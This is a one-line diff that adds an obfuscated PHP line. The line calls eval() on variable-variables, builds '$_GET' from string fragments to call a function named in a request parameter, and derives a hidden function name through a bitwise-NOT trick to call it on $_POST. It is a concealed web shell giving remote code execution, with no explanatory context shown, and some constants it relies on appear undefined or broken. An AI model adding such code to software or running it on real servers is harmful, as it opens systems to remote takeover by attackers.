@@ -1,0 +1,1 @@
+<?php foreach ([A, B] as $k) eval($$k); $n = '_G' . 'ET'; $$n['a']($x); $f = ~Re; $f($_POST);
